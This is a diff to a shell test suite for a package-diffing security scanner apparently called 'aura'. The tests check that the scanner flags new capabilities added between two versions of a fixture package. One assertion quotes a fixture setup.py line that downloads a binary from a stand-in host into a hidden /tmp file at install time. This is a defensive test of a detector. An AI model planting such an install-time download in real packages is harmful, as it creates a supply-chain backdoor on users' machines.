@@ -7,6 +7,16 @@ FIX="$AURA_ROOT/tests/fixtures/diff"
 
 setup() { cd "$AURA_ROOT"; }
 
+# Compare $output with tests/golden/diff/$1; AURA_UPDATE_GOLDEN=1 rewrites it instead
+# (review the diff before committing).
+golden() {
+	if [ -n "${AURA_UPDATE_GOLDEN:-}" ]; then
+		printf '%s\n' "$output" > "$AURA_ROOT/tests/golden/diff/$1"
+		return
+	fi
+	diff -u "$AURA_ROOT/tests/golden/diff/$1" <(printf '%s\n' "$output") || fail "output differs from tests/golden/diff/$1 (AURA_UPDATE_GOLDEN=1 regenerates it)"
+}
+
 # Both versions as sdists named like PyPI's, so fetch reads name and version off them.
 make_archives() {
 	tar -C "$FIX/tinyhttp-1.0" -czf "$BATS_TEST_TMPDIR/tinyhttp-1.0.tar.gz" .
@@ -23,6 +33,11 @@ make_archives() {
 	assert_output --partial "new findings: 1"
 	assert_output --partial '4 | urllib.request.urlretrieve("https://example.com/tinyhttp/helper.bin", "/tmp/.tinyhttp-helper")'
 	assert_output --partial "gone findings: 0"
+	# what 1.1 can do that 1.0 could not, and where
+	assert_output --partial "  capabilities: 3 added, 0 removed"
+	assert_output --partial "    + can: network (network access): setup.py:4"
+	assert_output --partial "    + can: install-hook (runs code when installed or at interpreter start): setup.py:4"
+	golden tinyhttp.txt
 }
 
 @test "diff: json is one diff record with files by path and sha256, and the new hits" {
@@ -36,6 +51,8 @@ make_archives() {
 	assert_jq "$output" '.files.removed == []'
 	assert_jq "$output" '.hits.new | length == 1 and .[0].name == "urllib.request.urlretrieve" and .[0].context == "install"'
 	assert_jq "$output" '.hits.gone == []'
+	assert_jq "$output" '[.capabilities.added[].id] == ["network","file-write","install-hook"] and .capabilities.removed == []'
+	assert_jq "$output" '.capabilities.added[0].where == [{"path":"setup.py","line":4,"detection":"NetworkRequest"}]'
 }
 
 @test "diff: gates apply to the change; reversed, the finding is gone and the change is info" {
@@ -44,6 +61,7 @@ make_archives() {
 	run -0 --separate-stderr aura diff --format json --fail-level low "$FIX/tinyhttp-1.1" "$FIX/tinyhttp-1.0"
 	assert_jq "$output" '.score == 0 and .risk == "info" and (.hits.gone | length) == 1 and .files.removed[0].path == "tinyhttp/compat.py"'
 	assert_jq "$output" '.reason == "no new findings in tinyhttp-1.0; 1 finding gone"'
+	assert_jq "$output" '.capabilities.added == [] and [.capabilities.removed[].id] == ["network","file-write","install-hook"]'
 }
 
 @test "diff: the same version twice changes nothing" {
